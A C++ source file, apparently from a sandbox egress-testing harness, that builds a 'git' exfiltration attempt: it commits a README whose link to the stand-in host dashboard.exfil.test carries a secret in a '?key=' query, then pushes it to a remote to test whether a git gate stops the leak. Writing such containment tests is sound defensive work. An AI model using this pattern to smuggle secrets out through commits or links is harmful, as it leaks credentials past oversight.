// The git technique: a real git in the bottle commits a README and pushes it. The push is one of a new branch, whose
// name is the nonce, so that the rejected ones and the clean ones can be told apart wherever they arrive.
#include "attacks/carrier.h"
#include "harness/digest.h"

namespace bottle {
namespace {

std::string readme(const std::string& nonce, const std::string& secret) {
  const std::string query = secret.empty() ? "" : "?key=" + to_percent_reserved(secret);
  return "# Notes\n\nHow this works is described on [the dashboard](https://dashboard.exfil.test/" + nonce + query +
         ").\n";
}

Attempt build(const Choice& choice, const Brief& brief) {
  Attempt attempt{.nonce = brief.nonce};
  if (brief.route.git_remote.empty()) {
    attempt.not_applicable = "this bundle has no git-gate";
    return attempt;
  }
  const std::string secret = carried_secret(choice, brief);
  using Argv = std::vector<std::string>;
  const std::vector<Argv> steps = {{"git", "init", "-q", "-b", brief.nonce, "."},
                                   {"git", "add", "README.md"},
                                   {"git", "commit", "-q", "-m", "Notes"},
                                   {"git", "push", brief.route.git_remote, "HEAD:refs/heads/" + brief.nonce}};
  attempt.action = {{"action", "client"},
                    {"files", {{"README.md", to_base64(readme(brief.nonce, secret))}}},
                    {"steps", steps},
                    {"environment",
                     {{"HOME", "{dir}"},
                      {"GIT_CONFIG_NOSYSTEM", "1"},
                      {"GIT_CONFIG_GLOBAL", "/dev/null"},
                      {"GIT_TEMPLATE_DIR", ""},  // neither sample hooks nor housekeeping: they only take time
                      {"GIT_CONFIG_COUNT", "1"},
                      {"GIT_CONFIG_KEY_0", "maintenance.auto"},
                      {"GIT_CONFIG_VALUE_0", "false"},
                      {"GIT_TERMINAL_PROMPT", "0"},
                      {"GIT_AUTHOR_NAME", "agent"},
                      {"GIT_COMMITTER_NAME", "agent"},
                      {"GIT_AUTHOR_EMAIL", "agent@bottle.test"},
                      {"GIT_COMMITTER_EMAIL", "agent@bottle.test"}}},
                    {"timeout_ms", 8000}};
  for (const Argv& argv : steps) {
    std::string joined;
    for (const std::string& argument : argv) joined += (joined.empty() ? "" : std::string(1, '\0')) + argument;
    attempt.sent.push_back(segment("argv", joined));
  }
  attempt.channel = "push through git-gate, git";
  attempt.delivered_at = "git";
  attempt.bare_at = {"git"};
  attempt.secret = carried_kind(choice);
  attempt.leak = attempt.secret.empty() ? Attempt::Leak::nonce : Attempt::Leak::secret;
  attempt.wall = Layer::git_gate;
  attempt.upstream_must_not_be_dialled = true;
  if (brief.arm == Arm::bare) attempt.place = Place::outside;
  return attempt;
}

}  // namespace

Technique make_technique_git() {
  return {.name = "git",
          .parameters = {{"vector", {"readme-link"}}, {"secret", kSecretKinds}, {"encoding", kEncodings}},
          .build = build};
}

}  // namespace bottle
